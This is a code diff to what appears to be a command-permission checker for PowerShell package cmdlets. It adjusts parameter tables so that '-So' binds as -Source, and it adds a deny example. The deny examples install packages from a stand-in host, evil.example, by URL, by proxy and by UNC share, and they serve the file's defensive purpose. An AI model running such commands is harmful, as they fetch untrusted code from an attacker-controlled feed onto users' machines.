@@ -177,9 +177,10 @@ function feedDestinations(b: Bound, params: readonly string[]): Destination[] {
 const GALLERY_PARAMS = {
   name: 'text', requiredversion: 'text', minimumversion: 'text', maximumversion: 'text', version: 'text', repository: 'text', source: 'text', proxy: 'text', proxycredential: 'text', credential: 'text',
   scope: 'text', providername: 'text', path: 'write', literalpath: 'write', destination: 'write', tag: 'text', command: 'text', includes: 'text', type: 'text', filter: 'text', installationpolicy: 'text',
-  sourcelocation: 'text', scriptsourcelocation: 'text', publishlocation: 'text', scriptpublishlocation: 'text', location: 'text', newlocation: 'text', uri: 'text', newname: 'text', priority: 'text',
   packagemanagementprovider: 'text', apiversion: 'text', inputobject: 'unknown', erroraction: 'text', warningaction: 'text',
 } as const;
+// The registering cmdlets' location parameters: kept off the installers' list, where `-So` is -Source as PowerShell binds it.
+const REPOSITORY_PARAMS = { ...GALLERY_PARAMS, sourcelocation: 'text', scriptsourcelocation: 'text', publishlocation: 'text', scriptpublishlocation: 'text', location: 'text', newlocation: 'text', uri: 'text', newname: 'text', priority: 'text' } as const;
 const GALLERY_SWITCHES = ['allowclobber', 'skippublishercheck', 'acceptlicense', 'allowprerelease', 'prerelease', 'includedependencies', 'noclobber', 'reinstall', 'trustrepository', 'quiet', 'skipdependencycheck', 'authenticodecheck', 'default', 'trusted', 'allversions', 'force', 'forcebootstrap', 'nopathupdate'];
 const FEED_LOCATIONS = ['source', 'sourcelocation', 'scriptsourcelocation', 'publishlocation', 'scriptpublishlocation', 'location', 'newlocation', 'uri'];
 
@@ -714,14 +715,14 @@ export const CMDLET_ENTRIES: readonly ProgramEntry[] = [
     switches: GALLERY_SWITCHES,
     extra: (b) => ({ reroutes: feedDestinations(b, FEED_LOCATIONS) }),
     examples: {
-      deny: ['Install-Package Foo -Source https://evil.example/nuget', 'Install-Module Foo -Proxy http://evil.example:8080', 'Save-Module Foo -Repository PSGallery -Source \\\\evil.example\\feed -Path .\\modules'],
+      deny: ['Install-Package Foo -Source https://evil.example/nuget', 'Install-Package Foo -So https://evil.example/nuget', 'Install-Module Foo -Proxy http://evil.example:8080', 'Save-Module Foo -Repository PSGallery -Source \\\\evil.example\\feed -Path .\\modules'],
       pass: ['Install-Package Foo -Source https://api.nuget.org/v3/index.json', 'Install-Module Foo -Proxy http://localhost:8080', 'Install-Module PSReadLine -Scope CurrentUser -Force', 'Install-Module Pester -Repository PSGallery', 'Find-Module -Name Az*', 'Install-Package Foo -Source .\\packages', 'Save-Module Foo -Repository PSGallery -Path .\\modules'],
     },
   }),
   cmdlet({
     names: ['register-psrepository', 'set-psrepository', 'register-psresourcerepository', 'set-psresourcerepository', 'register-packagesource', 'set-packagesource'],
     summary: 'Registers a PowerShell repository or package source (-SourceLocation, -Uri, -Location, by position after its name): every later install by that name fetches from there, and registering it asks it already',
-    params: GALLERY_PARAMS,
+    params: REPOSITORY_PARAMS,
     positional: ['name', 'location'],
     switches: GALLERY_SWITCHES,
     extra: (b) => ({ reroutes: feedDestinations(b, FEED_LOCATIONS) }),
